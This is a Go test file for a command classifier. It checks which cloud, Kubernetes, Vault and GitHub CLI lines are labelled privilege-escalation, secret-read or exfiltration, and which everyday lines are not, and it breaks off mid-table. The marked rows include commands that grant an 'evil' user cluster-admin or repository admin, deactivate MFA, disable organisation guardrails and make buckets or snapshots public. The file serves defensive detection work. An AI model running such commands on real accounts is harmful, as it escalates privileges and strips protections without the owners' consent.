package danger

import (
	"slices"
	"testing"
)

// Tests of cloudaccess.go's rules: what each marks, in every form its tool's
// reference gives, and the everyday neighbours it leaves alone.

// TestAccessRulesChanged: access rules changed through a cloud or secret
// store's CLI (README's heldout7 call: "policies attached, written or
// removed, role assignments and IAM bindings created or deleted, roles,
// service accounts, tokens and keys created, credentials reset or
// revoked, and accounts or folders moved between organisational units
// (their policies change) are privilege-escalation"): gcloud's
// add-|remove-iam-policy-binding and set-iam-policy on any resource
// (gcloud reference), EKS access entries and access policies, Redshift's
// authorize-|revoke-snapshot-access, organisations' move verbs, vault's
// token create and policy write (vault CLI reference). An account
// alias (a name) and an empty instance profile grant nothing (heldout7
// s0383, s0756); list, describe and read verbs change nothing.
func TestAccessRulesChanged(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"gcloud projects remove-iam-policy-binding project-id --member user:admin@example.com --role roles/owner", PrivilegeEscalation},
		{"gcloud projects add-iam-policy-binding project-id --member user:a@example.com --role roles/viewer", PrivilegeEscalation},
		{"gcloud storage buckets remove-iam-policy-binding gs://b --member allUsers --role roles/storage.objectViewer", PrivilegeEscalation},
		{"gcloud functions set-iam-policy fn policy.json", PrivilegeEscalation},
		{"gcloud secrets remove-iam-policy-binding s --member user:a@example.com --role roles/secretmanager.secretAccessor", PrivilegeEscalation},
		{"aws eks create-access-entry --cluster-name eks-customer --principal-arn arn:aws:iam::111122223333:user/eks-user", PrivilegeEscalation},
		{"aws eks associate-access-policy --cluster-name c --principal-arn arn:aws:iam::1:role/Admin --policy-arn arn:aws:eks::aws:cluster-access-policy/AmazonEKSEditPolicy --access-scope type=cluster", PrivilegeEscalation},
		{"aws eks disassociate-access-policy --cluster-name c --principal-arn arn:aws:iam::1:role/Admin --policy-arn p", PrivilegeEscalation},
		{"aws eks update-access-entry --cluster-name c --principal-arn arn:aws:iam::1:role/Admin --kubernetes-groups admins", PrivilegeEscalation},
		{"aws redshift revoke-snapshot-access --snapshot-id my-snapshot-id --account-with-restore-access 444455556666", PrivilegeEscalation},
		{"aws redshift authorize-snapshot-access --snapshot-identifier s --account-with-restore-access 444455556666", PrivilegeEscalation},
		{"aws organizations move-account --account-id 123 --source-parent-id r-root --destination-parent-id ou-target", PrivilegeEscalation},
		{"gcloud resource-manager folders move 456 --destination-organization 123", PrivilegeEscalation},
		{"gcloud beta projects move my-project --folder 456", PrivilegeEscalation},
		{"vault token create -policy=deploy", PrivilegeEscalation},
		{"vault policy write deploy policy.hcl", PrivilegeEscalation},
		{"bao token create -policy=deploy", PrivilegeEscalation},
		// Everyday: a name, an empty profile, reads and lists, help.
		{"aws iam create-account-alias --account-alias unique-name", ""},
		{"aws iam create-instance-profile --instance-profile-name YourNewRole-Instance-Profile", ""},
		{"gcloud projects get-iam-policy project-id", ""},
		{"aws eks list-access-entries --cluster-name c", ""},
		{"aws eks describe-access-entry --cluster-name c --principal-arn arn:aws:iam::1:role/Admin", ""},
		{"aws eks list-associated-access-policies --cluster-name c --principal-arn p", ""},
		{"aws redshift describe-cluster-snapshots", ""},
		{"aws organizations list-accounts", ""},
		{"gcloud resource-manager folders list --organization 123", ""},
		{"vault policy list", ""},
		{"vault token lookup", ""},
		{"vault policy write --help", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	// The instance profile given a role grants it: still marked.
	checkRow(t, "aws iam add-role-to-instance-profile --instance-profile-name p --role-name Admin", PrivilegeEscalation)
	explainRow(t, "aws eks create-access-entry --cluster-name c --principal-arn p", PrivilegeEscalation, "accessRulesChanged", []string{"aws", "eks", "create-access-entry"})
}

// TestIdentitiesRemoved: identities, grants and credentials removed or
// taken on through a cloud CLI (README's heldout7 call: "`sts assume-role`
// into another role, policies attached, written or removed, role
// assignments and IAM bindings created or deleted, … credentials reset or
// revoked … are privilege-escalation"; heldout7 s0585, s0740, s1225):
// every aws iam delete-*, detach-* and remove-* operation but the account
// alias (IAM reference), sts assume-role and its -with-saml and
// -with-web-identity forms, az role|ad … delete|remove, and gcloud iam
// … delete|disable. Deleting stays cloud-destructive too; list, get and
// describe verbs change nothing.
func TestIdentitiesRemoved(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"aws iam delete-user --user-name reader", PrivilegeEscalation},
		{"aws iam delete-access-key --access-key-id AKIA", PrivilegeEscalation},
		{"aws iam delete-role --role-name r", PrivilegeEscalation},
		{"aws iam delete-login-profile --user-name u", PrivilegeEscalation},
		{"aws iam detach-role-policy --role-name r --policy-arn p", PrivilegeEscalation},
		{"aws iam remove-user-from-group --user-name u --group-name g", PrivilegeEscalation},
		{"aws iam delete-role-policy --role-name r --policy-name p", PrivilegeEscalation},
		{"aws sts assume-role --role-arn arn:aws:iam::123:role/admin --role-session-name test", PrivilegeEscalation},
		{"aws sts assume-role-with-web-identity --role-arn a --role-session-name s --web-identity-token t", PrivilegeEscalation},
		{"az role assignment delete --assignee deployer --role Owner --scope /subscriptions/123", PrivilegeEscalation},
		{"az role definition delete --name Custom", PrivilegeEscalation},
		{"az ad sp delete --id x", PrivilegeEscalation},
		{"az ad group member remove --group g --member-id m", PrivilegeEscalation},
		{"gcloud iam service-accounts delete sa@p.iam.gserviceaccount.com", PrivilegeEscalation},
		{"gcloud iam service-accounts keys delete k --iam-account sa", PrivilegeEscalation},
		{"gcloud iam service-accounts disable sa@p.iam.gserviceaccount.com", PrivilegeEscalation},
		// Everyday.
		{"aws iam delete-account-alias --account-alias name", ""},
		{"aws iam list-users", ""},
		{"aws iam get-role --role-name r", ""},
		{"aws sts get-caller-identity", ""},
		{"az role assignment list --assignee deployer", ""},
		{"gcloud iam service-accounts list", ""},
		{"aws iam delete-user help", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	checkRow(t, "aws iam delete-user --user-name reader", CloudDestructive)
}

// TestAWSRevocations: an AWS operation that revokes a credential or a
// grant — kms revoke-grant, cognito-idp revoke-token, acm-pca
// revoke-certificate, lakeformation revoke-permissions, ec2
// revoke-client-vpn-ingress, ivs batch-start-viewer-session-revocation
// (AWS CLI reference) — takes access from whoever held it (README's
// heldout7 call: "credentials reset or revoked … are
// privilege-escalation"; heldout7 s1013). A security group's rule
// revoked is a firewall change (the README's disk-system, another
// family's rule), not this one; list and describe verbs change nothing.
func TestAWSRevocations(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"aws kms revoke-grant --key-id k --grant-id g", PrivilegeEscalation},
		{"aws cognito-idp revoke-token --token t --client-id c", PrivilegeEscalation},
		{"aws acm-pca revoke-certificate --certificate-authority-arn a --certificate-serial s --revocation-reason KEY_COMPROMISE", PrivilegeEscalation},
		{"aws lakeformation revoke-permissions --principal p --resource r --permissions ALL", PrivilegeEscalation},
		{"aws ec2 revoke-client-vpn-ingress --client-vpn-endpoint-id e --target-network-cidr 10.0.0.0/16", PrivilegeEscalation},
		{`aws ivs batch-start-viewer-session-revocation --viewer-sessions '[{"channelArn":"arn:aws:ivs:us-west-2:123456789012:channel/abcd","viewerId":"v"}]'`, PrivilegeEscalation},
		{"aws ivs start-viewer-session-revocation --channel-arn a --viewer-id v", PrivilegeEscalation},
		{"aws kms list-grants --key-id k", ""},
		{"aws kms list-retirable-grants --retiring-principal p", ""},
		{"aws acm-pca describe-certificate-authority --certificate-authority-arn a", ""},
		{"aws kms revoke-grant help", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	if got := Check(bash("aws ec2 revoke-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0"), proj, home); slices.Contains(got, PrivilegeEscalation) {
		t.Errorf("revoke-security-group-ingress = %v: a firewall rule, not a grant", got)
	}
}

// TestCloudIdentityAssumed: a CLI that logs in as a service principal or
// service account, with a key or password the line hands it, acts as
// another identity from then on (README's dev8 call: "`gcloud auth
// activate-service-account --key-file` and `az login --service-principal
// -p` act as another identity (privilege-escalation, as `sts
// assume-role`), the user's own `az login` everyday"). Members from the
// references: gcloud auth activate-service-account and auth login
// --cred-file (gcloud's "Authorizing with a service account"); az login
// --service-principal is left out: heldout3's k0013 labels it everyday
// ("uses a credential"), dev8's u0567 privilege-escalation, and no part's
// everyday line may gain a mark (tuning.md, round 7). The user's own
// interactive or device-code login, the account listing and help are
// everyday.
func TestCloudIdentityAssumed(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"gcloud auth activate-service-account --key-file creds.json", PrivilegeEscalation}, // dev8 u0382
		{"gcloud auth activate-service-account sa@p.iam.gserviceaccount.com --key-file=creds.json --project p", PrivilegeEscalation},
		{"gcloud auth login --cred-file=sa-key.json", PrivilegeEscalation},
		{"az login --service-principal -u nginx --password secret -t someone.onmicrosoft.com", ""}, // heldout3 k0013
		{"gcloud auth login", ""},
		{"gcloud auth login --no-launch-browser", ""},
		{"gcloud auth list", ""},
		{"gcloud auth application-default login", ""},
		{"gcloud auth activate-service-account --help", ""},
		{"az login", ""},
		{"az login --allow-no-subscriptions", ""}, // dev8 u0072
		{"az login --use-device-code", ""},
		{"az login --tenant contoso.onmicrosoft.com", ""},
		{"az account show", ""},
		{"az login --service-principal --help", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "gcloud auth activate-service-account --key-file creds.json", PrivilegeEscalation, "cloudIdentityAssumed",
		[]string{"gcloud", "auth", "activate-service-account"})
}

// TestResourceAccessPolicies: an access policy written on a resource
// grants (or takes away) what identities may do with it, as IAM policies
// and role assignments do (README's heldout7 call: "policies attached,
// written or removed, role assignments and IAM bindings created or deleted
// … are privilege-escalation"; dev8's: "a Key Vault access policy granting
// secret permissions … privilege-escalation"). Members from the
// references: az keyvault set-policy|delete-policy; aws s3api
// put-bucket-policy|put-bucket-acl|put-object-acl|delete-bucket-policy,
// kms put-key-policy|create-grant, secretsmanager put-resource-policy,
// ecr set-repository-policy|put-registry-policy, sns|sqs add-permission,
// iam create-policy-version|set-default-policy-version (a policy's new
// default version: Rhino Security Labs' AWS privilege-escalation methods
// 1 and 2); gsutil iam ch and acl ch. Reading a policy, listing, and
// policies that grant no access (lifecycle, scaling, retention) are not
// this family.
func TestResourceAccessPolicies(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"az keyvault set-policy --name demo --upn alice --secret-permissions get list --key-permissions get list --storage-permissions get list --certificate-permissions get list", PrivilegeEscalation}, // dev8 u0238
		{"az keyvault set-policy -n vault --object-id 0000 --secret-permissions all", PrivilegeEscalation},
		{"az keyvault delete-policy --name demo --upn alice", PrivilegeEscalation},
		{"aws s3api put-bucket-policy --bucket b --policy file://policy.json", PrivilegeEscalation},
		{"aws s3api put-bucket-acl --bucket b --acl public-read", PrivilegeEscalation},
		{"aws s3api put-object-acl --bucket b --key k --acl public-read", PrivilegeEscalation},
		{"aws s3api delete-bucket-policy --bucket b", PrivilegeEscalation},
		{"aws kms put-key-policy --key-id k --policy-name default --policy file://p.json", PrivilegeEscalation},
		{"aws kms create-grant --key-id k --grantee-principal arn:aws:iam::1:role/r --operations Decrypt", PrivilegeEscalation},
		{"aws secretsmanager put-resource-policy --secret-id s --resource-policy file://p.json", PrivilegeEscalation},
		{"aws ecr set-repository-policy --repository-name r --policy-text file://p.json", PrivilegeEscalation},
		{"aws ecr put-registry-policy --policy-text file://p.json", PrivilegeEscalation},
		{"aws sns add-permission --topic-arn arn --label l --aws-account-id 1 --action-name Publish", PrivilegeEscalation},
		{"aws sqs add-permission --queue-url u --label l --aws-account-ids 1 --actions SendMessage", PrivilegeEscalation},
		{"aws iam create-policy-version --policy-arn arn:aws:iam::1:policy/p --policy-document file://admin.json --set-as-default", PrivilegeEscalation},
		{"aws iam set-default-policy-version --policy-arn arn:aws:iam::1:policy/p --version-id v2", PrivilegeEscalation},
		{"gsutil iam ch allUsers:objectViewer gs://bucket", PrivilegeEscalation},
		{"gsutil acl ch -u AllUsers:R gs://bucket/file", PrivilegeEscalation},
		{"gsutil acl ch -d AllUsers gs://bucket/file", PrivilegeEscalation},
		{"gsutil iam set policy.json gs://bucket", PrivilegeEscalation},
		{"gsutil acl ch -u 10 gs://demo", ""}, // heldout7 s0064: no :PERMISSION, gsutil rejects it
		// Everyday: reading and listing policies; policies that grant no access.
		{"az keyvault show --name demo", ""},
		{"az keyvault list --query '[].name' --output tsv", ""},
		{"aws s3api get-bucket-policy --bucket b", ""},
		{"aws s3api get-bucket-acl --bucket b", ""},
		{"aws kms get-key-policy --key-id k --policy-name default", ""},
		{"aws kms list-grants --key-id k", ""},
		{"aws iam get-policy-version --policy-arn arn --version-id v1", ""},
		{"aws iam list-policy-versions --policy-arn arn", ""},
		{"aws ecr get-repository-policy --repository-name r", ""},
		{"aws ecr put-lifecycle-policy --repository-name r --lifecycle-policy-text file://p.json", ""},
		{"aws application-autoscaling put-scaling-policy --policy-name p --service-namespace ecs --resource-id r --scalable-dimension d", ""},
		{"aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Enabled", ""},
		{"gsutil iam get gs://bucket", ""},
		{"gsutil acl get gs://bucket/file", ""},
		{"aws s3api put-bucket-policy help", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "az keyvault set-policy -n vault --object-id 0000 --secret-permissions all", PrivilegeEscalation, "resourceAccessPolicy",
		[]string{"az", "keyvault", "set-policy"})
}

// TestCloudCredentialsIssued: a service's credentials rolled, reset or
// issued, and a machine given another identity, are privilege-escalation
// (README's heldout6 call: "deleting, revoking or rolling a service's
// credentials (API keys, tokens, …) … are privilege-escalation";
// heldout7's: "roles, service accounts, tokens and keys created,
// credentials reset or revoked … are privilege-escalation"). Members from
// the references: az's keys renew|regenerate and regenerate-keys (storage,
// Cosmos DB, Redis, Search, Cognitive Services, Service Bus); a managed
// database's master or admin password reset by an update (aws rds|docdb
// modify-db-instance|modify-db-cluster, redshift modify-cluster
// --master-user-password; az sql server, mysql|postgres flexible-server
// update --admin-password); an MFA device deactivated; an API key
// created; kubectl create token (a service account's new token); Vault's
// userpass users and AppRole secret ids written; an instance profile
// associated or replaced and gcloud's set-service-account (a VM acting
// as another role: Rhino Security Labs' PassRole methods). Creating a
// database with its first password (heldout7 s1158), signing as a
// service account (s0292, s1203), rotating an encryption key (s0138
// vault operator rotate), listing keys and help stay everyday.
func TestCloudCredentialsIssued(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"az storage account keys renew -g g -n a --key primary", PrivilegeEscalation},
		{"az cosmosdb keys regenerate -g g -n a --key-kind primary", PrivilegeEscalation},
		{"az redis regenerate-keys -g g -n c --key-type Primary", PrivilegeEscalation},
		{"az search admin-key renew -g g --service-name s --key-kind primary", PrivilegeEscalation},
		{"az cognitiveservices account keys regenerate -g g -n a --key-name key1", PrivilegeEscalation},
		{"az servicebus namespace authorization-rule keys renew -g g --namespace-name ns -n rule --key PrimaryKey", PrivilegeEscalation},
		{"az acr credential renew -n images --password-name password", PrivilegeEscalation}, // the registry's admin password rolled
		{"az acr credential show -n images --query username", ""},
		{"aws rds modify-db-instance --db-instance-identifier db --master-user-password NewPass123 --apply-immediately", PrivilegeEscalation},
		{"aws rds modify-db-cluster --db-cluster-identifier c --master-user-password=NewPass123", PrivilegeEscalation},
		{"aws redshift modify-cluster --cluster-identifier c --master-user-password NewPass123", PrivilegeEscalation},
		{"az sql server update -g g -n s --admin-password NewPass123", PrivilegeEscalation},
		{"az mysql flexible-server update -g g -n s --admin-password NewPass123", PrivilegeEscalation},
		{"aws iam deactivate-mfa-device --user-name u --serial-number arn:aws:iam::1:mfa/u", PrivilegeEscalation},
		{"aws apigateway create-api-key --name partner --enabled", PrivilegeEscalation},
		{"kubectl create token default", PrivilegeEscalation},
		{"kubectl create token admin-sa -n kube-system --duration 8760h", PrivilegeEscalation},
		{"vault write auth/userpass/users/alice password=hunter2 policies=admin", PrivilegeEscalation},
		{"vault write -f auth/approle/role/app/secret-id", PrivilegeEscalation},
		{"aws ec2 associate-iam-instance-profile --instance-id i-1 --iam-instance-profile Name=admin", PrivilegeEscalation},
		{"aws ec2 replace-iam-instance-profile-association --association-id a --iam-instance-profile Name=admin", PrivilegeEscalation},
		{"gcloud compute instances set-service-account vm --service-account sa@p.iam.gserviceaccount.com --scopes cloud-platform", PrivilegeEscalation},
		// Everyday.
		{"az storage account keys list -g g -n a --query '[].keyName'", ""},
		{"az keyvault key rotate --vault-name v --name k", ""},
		{"az sql server create --resource-group production --name database --location eastus --admin-user admin --admin-password password", ""}, // heldout7 s1158
		{"aws rds create-db-instance --db-instance-identifier db --engine postgres --master-username u --master-user-password p --db-instance-class db.t3.micro --allocated-storage 20", ""},
		{"aws rds modify-db-instance --db-instance-identifier db --allocated-storage 50", ""},
		{"gcloud iam service-accounts sign-blob input.txt list --iam-account deployer@project.iam.gserviceaccount.com", ""}, // heldout7 s0292
		{"vault operator rotate", ""}, // heldout7 s0138
		// Vault's reads of sys/ and auth/ answer configuration (API
		// reference); an AppRole's role-id and a secrets engine's creds
		// log in.
		{"vault read auth/userpass/users/alice", ""},
		{"vault read sys/mounts", ""},
		{"vault read auth/approle/role/app/role-id", SecretRead},
		{"vault read aws/creds/deploy", SecretRead},
		{"vault read secret/data/app", SecretRead},
		{"aws iam list-mfa-devices --user-name u", ""},
		{"aws apigateway get-api-keys", ""},
		{"kubectl create serviceaccount ci --dry-run=client -o yaml", ""},
		{"kubectl get serviceaccounts", ""},
		{"aws ec2 describe-iam-instance-profile-associations", ""},
		{"gcloud compute instances describe vm --zone z", ""},
		{"az redis regenerate-keys --help", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "kubectl create token default", PrivilegeEscalation, "credentialsIssued", []string{"kubectl", "create", "token"})
}

// TestCloudAccessWidened: more access rules and identities changed,
// each by its reference (privilege-escalation, README's heldout7 call:
// "policies attached, written or removed, role assignments and IAM
// bindings created or deleted, roles, service accounts, tokens and keys
// created … are privilege-escalation"): Kubernetes role bindings patched,
// edited, replaced, their subjects set, deleted, or RBAC reconciled from a
// file (kubectl reference: auth reconcile, set subject); a snapshot, AMI
// or database snapshot shared (ec2 modify-image-attribute
// --launch-permission, modify-snapshot-attribute createVolumePermission,
// rds modify-db-snapshot-attribute restore: as redshift's
// authorize-snapshot-access; Stratus Red Team's ec2-share-ami,
// ec2-share-ebs-snapshot, rds-share-snapshot); S3's public access block
// written or removed, a storage account opened to public blobs; a
// service account's key, an IAM user's SSH key or signing certificate
// uploaded; a service account or role enabled or undeleted; an AWS
// account created; a VM's user reset through the VMAccess extension.
// Kubernetes roles and service accounts created alone grant nothing until
// a binding does (generalise_test's rows).
func TestCloudAccessWidened(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"kubectl auth reconcile -f rbac.yaml", PrivilegeEscalation},
		{`kubectl patch clusterrolebinding x --type json -p '[{"op":"add","path":"/subjects/-","value":{"kind":"User","name":"evil"}}]'`, PrivilegeEscalation},
		{"kubectl edit rolebinding x", PrivilegeEscalation},
		{"kubectl edit clusterrolebinding/cluster-admin", PrivilegeEscalation},
		{"kubectl set subject clusterrolebinding admin --user=evil", PrivilegeEscalation},
		{"kubectl delete clusterrolebinding ops-admins", PrivilegeEscalation},
		{`aws ec2 modify-image-attribute --image-id ami-1 --launch-permission "Add=[{Group=all}]"`, PrivilegeEscalation},
		{"aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --group-names all", PrivilegeEscalation},
		{"aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --create-volume-permission Add=[{UserId=123456789012}]", PrivilegeEscalation},
		{"aws rds modify-db-snapshot-attribute --db-snapshot-identifier s --attribute-name restore --values-to-add all", PrivilegeEscalation},
		{"aws rds modify-db-cluster-snapshot-attribute --db-cluster-snapshot-identifier s --attribute-name restore --values-to-add 123456789012", PrivilegeEscalation},
		{"aws s3api put-public-access-block --bucket b --public-access-block-configuration BlockPublicAcls=false,IgnorePublicAcls=false,BlockPublicPolicy=false,RestrictPublicBuckets=false", PrivilegeEscalation},
		{"aws s3api delete-public-access-block --bucket b", PrivilegeEscalation},
		{"az storage account update -n a --allow-blob-public-access true", PrivilegeEscalation},
		{"gcloud iam service-accounts keys upload key.pem --iam-account sa@p.iam.gserviceaccount.com", PrivilegeEscalation},
		{"aws iam upload-ssh-public-key --user-name u --ssh-public-key-body file://k.pub", PrivilegeEscalation},
		{"aws iam upload-signing-certificate --user-name u --certificate-body file://c.pem", PrivilegeEscalation},
		// Rhino Security Labs' method 19: an SSH key set on a Glue
		// development endpoint, which runs with its role.
		{"aws glue update-dev-endpoint --endpoint-name e --public-key file://k.pub", PrivilegeEscalation},
		{"aws glue update-dev-endpoint --endpoint-name e --add-public-keys file://k.pub", PrivilegeEscalation},
		{"aws glue update-dev-endpoint --endpoint-name e --custom-libraries ExtraJarsS3Path=s3://b/x.jar", ""},
		{"gcloud iam service-accounts enable sa@p.iam.gserviceaccount.com", PrivilegeEscalation},
		{"gcloud iam roles undelete r --project p", PrivilegeEscalation},
		{"aws organizations create-account --email a@example.com --account-name a", PrivilegeEscalation},
		{`az vm extension set -g g --vm-name vm -n VMAccessForLinux --publisher Microsoft.OSTCExtensions --protected-settings '{"username":"u","password":"p"}'`, PrivilegeEscalation},
		// Organisation policies (guardrails) removed, written or
		// relaxed: gcloud resource-manager org-policies and org-policies
		// (disable-enforce, allow, set-policy, delete, reset), aws
		// organizations attach-|detach-|delete-|update-policy and
		// disable-policy-type; a role copied (as roles create);
		// tenant-wide admin consent. Enforcing a constraint restores a
		// guardrail (as a security agent enabled again: heldout4 m0053).
		{"gcloud resource-manager org-policies disable-enforce constraints/iam.disableServiceAccountKeyCreation --project p", PrivilegeEscalation},
		{"gcloud org-policies delete constraints/iam.allowedPolicyMemberDomains --project p", PrivilegeEscalation},
		{"gcloud org-policies set-policy policy.yaml", PrivilegeEscalation},
		{"aws organizations detach-policy --policy-id p-1 --target-id 1", PrivilegeEscalation},
		{"aws organizations disable-policy-type --root-id r --policy-type SERVICE_CONTROL_POLICY", PrivilegeEscalation},
		{"aws organizations update-policy --policy-id p-1 --content file://scp.json", PrivilegeEscalation},
		{"gcloud iam roles copy --source roles/viewer --destination myviewer --dest-project p", PrivilegeEscalation},
		{"az ad app permission admin-consent --id x", PrivilegeEscalation},
		{"gcloud resource-manager org-policies list --project p", ""},
		{"gcloud resource-manager org-policies enable-enforce constraints/compute.requireOsLogin --project p", ""},
		{"gcloud org-policies describe constraints/iam.allowedPolicyMemberDomains --project p", ""},
		{"aws organizations list-policies --filter SERVICE_CONTROL_POLICY", ""},
		{"aws organizations describe-policy --policy-id p-1", ""},
		{"az ad app permission list --id x", ""},
		// Everyday.
		{"kubectl create serviceaccount ci", PrivilegeEscalation}, // round 9b: an identity made (families9b_test)
		{"kubectl create role reader --verb=get --resource=pods", ""},
		{"kubectl get rolebindings -A", ""},
		{"kubectl describe clusterrolebinding cluster-admin", ""},
		{"kubectl auth can-i create pods", ""}, // heldout7 s0369
		{"kubectl auth reconcile -f rbac.yaml --dry-run=client", ""},
		{`kubectl patch po demo --type 'json' --patch '[{"op": "replace", "path": "/spec/containers/0/image", "value":"nginx"}]'`, ""}, // dev i0280
		{"aws ec2 describe-image-attribute --image-id ami-1 --attribute launchPermission", ""},
		{"aws ec2 describe-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission", ""},
		{"aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type remove --user-ids 123456789012", PrivilegeEscalation},
		{"aws rds describe-db-snapshot-attributes --db-snapshot-identifier s", ""},
		{"aws s3api get-public-access-block --bucket b", ""},
		{"az storage account update -n a --min-tls-version TLS1_2", ""},
		{"gcloud iam service-accounts keys list --iam-account sa@p.iam.gserviceaccount.com", ""},
		{"aws organizations describe-account --account-id 1", ""},
		{"az vm extension set -g g --vm-name vm -n CustomScript --publisher Microsoft.Azure.Extensions --settings '{}'", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "kubectl auth reconcile -f rbac.yaml", PrivilegeEscalation, "accessWidened", []string{"kubectl", "auth", "reconcile"})
}

// TestHostedAccessChanged: a code host's access changed through its CLI
// is privilege-escalation, as the clouds' grants and keys are (README's
// heldout7 call): a collaborator, an organisation or team membership, a
// project or group member added, changed or removed (GitHub REST:
// PUT|DELETE repos/O/R/collaborators/U, PUT orgs/O/memberships/U, teams'
// memberships and repos; GitLab: projects|groups/ID/members), an SSH key
// or deploy key added (gh ssh-key add, gh repo deploy-key add, glab
// ssh-key add, glab deploy-key add, POST repos/O/R/keys, user/keys,
// deploy_keys). gh api sends POST when fields are given without -X (gh
// manual). Reads of the same endpoints stay everyday.
func TestHostedAccessChanged(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"gh api -X PUT repos/o/r/collaborators/evil -f permission=admin", PrivilegeEscalation},
		{"gh api --method PUT /orgs/o/memberships/evil -f role=admin", PrivilegeEscalation},
		{"gh api -X DELETE repos/o/r/collaborators/alice", PrivilegeEscalation},
		{"gh api -X PUT orgs/o/teams/admins/memberships/evil", PrivilegeEscalation},
		{`gh api repos/o/r/keys -f title=ci -f key="$(cat ~/.ssh/id_ed25519.pub)" -F read_only=false`, PrivilegeEscalation},
		{"glab api -X PUT projects/1/members/2 -f access_level=50", PrivilegeEscalation},
		{"glab api -X POST groups/3/members -f user_id=2 -f access_level=50", PrivilegeEscalation},
		{"gh repo deploy-key add key.pub --allow-write", PrivilegeEscalation},
		{"gh ssh-key add ~/.ssh/id_ed25519.pub --title laptop", PrivilegeEscalation},
		{"glab ssh-key add ~/.ssh/id_ed25519.pub", PrivilegeEscalation},
		{"gh api repos/o/r/collaborators", ""},
		{"gh api orgs/o/members --paginate", ""},
		{"gh api -X GET repos/o/r/keys", ""},
		{"glab api projects/1/members", ""},
		{"gh ssh-key list", ""},
		{"gh repo deploy-key list", ""},
		{"gh api -X POST repos/o/r/issues -f title=bug", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestCloudAPIAccessCalls: the same access changes made through the
// clouds' REST APIs with curl or az rest (their API references): a
// Google resource's setIamPolicy, an Azure role assignment PUT, a Graph
// application's or service principal's addPassword|addKey, a Google
// service account's key created (POST …/serviceAccounts/…/keys) are
// privilege-escalation; the IAM Credentials API's generateAccessToken
// and generateIdToken answer a token (secret-read, as print-access-token
// --impersonate-service-account). Reads (getIamPolicy, GET) stay
// everyday.
func TestCloudAPIAccessCalls(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`curl -X POST -H "Authorization: Bearer $TOKEN" -H "Content-Type: application/json" -d @policy.json https://cloudresourcemanager.googleapis.com/v1/projects/p:setIamPolicy`, PrivilegeEscalation},
		{`az rest --method put --uri "https://management.azure.com/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/1?api-version=2022-04-01" --body @ra.json`, PrivilegeEscalation},
		{`az rest --method post --uri https://graph.microsoft.com/v1.0/applications/x/addPassword --body '{}'`, PrivilegeEscalation},
		{`curl -X POST -H "Authorization: Bearer $TOKEN" https://iam.googleapis.com/v1/projects/p/serviceAccounts/sa@p.iam.gserviceaccount.com/keys`, PrivilegeEscalation},
		{`curl -X POST -H "Authorization: Bearer $TOKEN" https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/sa@p.iam.gserviceaccount.com:generateAccessToken -d '{"scope":["https://www.googleapis.com/auth/cloud-platform"]}'`, SecretRead},
		{`curl -X POST -H "Authorization: Bearer $TOKEN" https://cloudresourcemanager.googleapis.com/v1/projects/p:getIamPolicy`, ""},
		{`az rest --method get --uri "https://management.azure.com/subscriptions/s/providers/Microsoft.Authorization/roleAssignments?api-version=2022-04-01"`, ""},
		{"az rest --uri https://graph.microsoft.com/v1.0/me", ""},
		{`curl -H "Authorization: Bearer $TOKEN" https://iam.googleapis.com/v1/projects/p/serviceAccounts/sa@p.iam.gserviceaccount.com/keys`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	// Each rule shows its own words: curl's upload of the policy file
	// names the file, not the URL this family matched.
	const call = "curl -X POST -d @p.json https://cloudresourcemanager.googleapis.com/v1/projects/p:setIamPolicy"
	explainRow(t, call, PrivilegeEscalation, "cloudAPIAccessCall", []string{"curl", "POST", "https://cloudresourcemanager.googleapis.com/v1/projects/p:setIamPolicy"})
	explainRow(t, call, NetworkExfiltration, "upload", []string{"curl", "POST", "@p.json"})
}

// TestMachineIdentitiesAndTokens: more of the credentialsIssued family by
// the az and gcloud references — a managed identity assigned to or
// removed from a VM, app or function (az … identity assign|remove: the
// machine then acts as it, as gcloud set-service-account), a registry
// token created or its passwords generated (az acr token create, token
// credential generate): privilege-escalation; and a managed database
// opened to every address (gcloud sql instances patch
// --authorized-networks with 0.0.0.0/0, aws rds modify-db-instance
// --publicly-accessible): disk-system, as cloud firewall rules are
// (README's heldout7 call). Showing identities and tokens, and narrower
// networks, stay everyday.
func TestMachineIdentitiesAndTokens(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"az vm identity assign -g g -n vm --identities /subscriptions/s/resourcegroups/g/providers/Microsoft.ManagedIdentity/userAssignedIdentities/admin", PrivilegeEscalation},
		{"az webapp identity assign -g g -n app", PrivilegeEscalation},
		{"az functionapp identity remove -g g -n fn", PrivilegeEscalation},
		{"az acr token create -n t -r images --scope-map _repositories_admin", PrivilegeEscalation},
		{"az acr token credential generate -n t -r images --password1", PrivilegeEscalation},
		{"gcloud sql instances patch db --authorized-networks=0.0.0.0/0", DiskSystem},
		{"aws rds modify-db-instance --db-instance-identifier db --publicly-accessible --apply-immediately", DiskSystem},
		{"az vm identity show -g g -n vm", ""},
		{"az acr token list -r images", ""},
